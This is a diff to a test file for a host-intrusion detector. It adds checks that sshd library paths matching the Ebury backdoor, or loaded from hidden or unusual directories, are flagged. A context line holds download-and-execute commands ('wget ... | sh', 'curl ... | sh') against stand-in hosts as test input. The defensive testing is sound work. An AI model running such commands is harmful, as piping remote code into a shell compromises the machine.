@@ -106,6 +106,21 @@ test("download-execute: how high depends on where the code came from", async (t)
   t.equal(history("wget -qO- https://get.example.io/i.sh | sh; curl http://198.51.100.3/y | sh")[0]?.severity, undefined, "one plain-HTTP source keeps it high");
 });
 
+test("sshd-library-backdoor: Ebury's file names, a libkeyutils keyutils never ships, libraries from odd places", async (t) => {
+  const sshd = (path: string) =>
+    run("sshd-library-backdoor", host({ processes: [proc(4210, "sshd", "/usr/sbin/sshd", "sshd: alice [priv]")], process_memory_map: [{ pid: "4210", path }] }));
+  t.equal(sshd("/lib64/libkeyutils.so.1.9")[0]?.known_bad, true, "libkeyutils.so.1.9 directly in /lib64: Ebury on RHEL");
+  t.same(findings(sshd("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.9")), [], "the same name under a multiarch directory is Debian bullseye's and Ubuntu's");
+  t.equal(sshd("/lib64/tls/libkeyutils.so.1.5")[0]?.known_bad, true, "keyutils never installs into tls/");
+  t.equal(sshd("/usr/lib64/libsbr.so")[0]?.known_bad, true, "a later Ebury name");
+  const variant = sshd("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.10.2");
+  t.equal(variant[0]?.severity, "high", "a three-part libkeyutils version is no keyutils file");
+  t.notOk(variant[0]?.known_bad, "judged by shape, not a listed name");
+  t.equal(sshd("/dev/shm/.x/libz.so.1")[0]?.severity, "high", "a temp or hidden directory");
+  t.equal(sshd("/opt/vas/lib64/libnss_vas4.so.2")[0]?.severity, "medium", "outside the system's library directories, at medium");
+  t.same(findings(sshd("/usr/lib/x86_64-linux-gnu/security/pam_x.so")), [], "PAM modules are pam-backdoor's");
+});
+
 test("listeners: a default port only when its default program holds it", async (t) => {
   const rows = (pid: number, port: number) => ({ pid: String(pid), port: String(port), protocol: "6", address: "0.0.0.0" });
   const shellOn9100 = run("unexpected-listener", host({ listening_ports: [rows(5, 9100)], processes: [proc(5, "bash", "/usr/bin/bash", "bash")] }));
